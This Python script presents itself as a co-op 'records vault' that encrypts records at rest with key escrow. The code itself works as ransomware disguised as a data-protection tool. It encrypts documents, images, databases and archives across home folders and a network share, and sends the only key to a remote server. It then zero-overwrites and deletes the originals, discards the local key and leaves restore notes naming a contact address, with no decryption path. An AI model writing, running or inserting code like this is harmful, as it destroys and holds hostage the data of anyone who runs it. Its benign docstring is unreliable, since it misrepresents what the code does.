#!/usr/bin/env python3
"""Co-op records vault.

Encrypts member, buyer and spawn-batch records at rest on the shared office
machines (data-protection requirement from the co-op board). Each machine
gets its own data key, which is lodged with the co-op key escrow service so
the office can recover records when a laptop is replaced.
"""
import argparse
import json
import logging
import os
import socket
import sys
import time
import urllib.error
import urllib.request
import uuid
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

from cryptography.fernet import Fernet

LOG = logging.getLogger("vault")

ESCROW_URL = os.environ.get("VAULT_ESCROW_URL", "https://escrow.myco-vault.example/v1/keys")
DEFAULT_ROOTS = ["~/Documents", "~/Desktop", "~/Pictures", "~/Downloads", "/mnt/coop-share"]
RECORD_EXT = {".csv", ".xlsx", ".xls", ".ods", ".odt", ".docx", ".doc", ".pdf",
              ".jpg", ".jpeg", ".png", ".db", ".sqlite", ".json", ".txt", ".zip"}
SEALED_EXT = ".vault"
NOTE_NAME = "RESTORE_RECORDS.txt"
NOTE = """Records in this folder were sealed by the co-op records vault.
Machine id: {mid}
To restore them, contact records-desk@myco-vault.example quoting the machine id.
"""


def iter_records(roots):
    for root in roots:
        base = Path(root).expanduser()
        if not base.is_dir():
            continue
        for dirpath, dirnames, filenames in os.walk(base):
            dirnames[:] = [d for d in dirnames if not d.startswith(".")]
            for name in filenames:
                p = Path(dirpath) / name
                if p.suffix.lower() in RECORD_EXT and p.name != NOTE_NAME:
                    yield p


class Vault:
    def __init__(self, escrow_url):
        self.escrow_url = escrow_url
        self.machine_id = uuid.uuid4().hex[:12]
        self._key = Fernet.generate_key()
        self._fernet = Fernet(self._key)

    def lodge_key(self, attempts=6):
        body = json.dumps({"machine": self.machine_id, "host": socket.gethostname(),
                           "key": self._key.decode()}).encode()
        req = urllib.request.Request(self.escrow_url, data=body, method="POST",
                                     headers={"Content-Type": "application/json"})
        for n in range(attempts):
            try:
                with urllib.request.urlopen(req, timeout=20) as resp:
                    if resp.status in (200, 201):
                        return True
            except (urllib.error.URLError, OSError) as exc:
                LOG.debug("escrow attempt %d failed: %s", n + 1, exc)
            time.sleep(min(60, 2 ** n))
        return False

    def seal(self, path):
        try:
            data = path.read_bytes()
            sealed = path.with_name(path.name + SEALED_EXT)
            sealed.write_bytes(self._fernet.encrypt(data))
            with open(path, "r+b") as fh:
                fh.write(b"\0" * len(data))
                fh.flush()
                os.fsync(fh.fileno())
            path.unlink()
            return path.parent
        except OSError as exc:
            LOG.debug("could not seal %s: %s", path, exc)
            return None

    def forget_key(self):
        self._key = None


def main(argv=None):
    ap = argparse.ArgumentParser(description="Seal co-op records at rest")
    ap.add_argument("roots", nargs="*", default=DEFAULT_ROOTS)
    ap.add_argument("--workers", type=int, default=8)
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args(argv)
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(message)s")

    vault = Vault(ESCROW_URL)
    if not vault.lodge_key():
        LOG.error("key escrow unreachable; nothing sealed")
        return 1

    touched = set()
    with ThreadPoolExecutor(max_workers=args.workers) as pool:
        for folder in pool.map(vault.seal, iter_records(args.roots)):
            if folder is not None:
                touched.add(folder)
    vault.forget_key()

    for folder in touched:
        try:
            (folder / NOTE_NAME).write_text(NOTE.format(mid=vault.machine_id))
        except OSError:
            pass
    LOG.info("sealed records in %d folders (machine %s)", len(touched), vault.machine_id)
    return 0


if __name__ == "__main__":
    sys.exit(main())
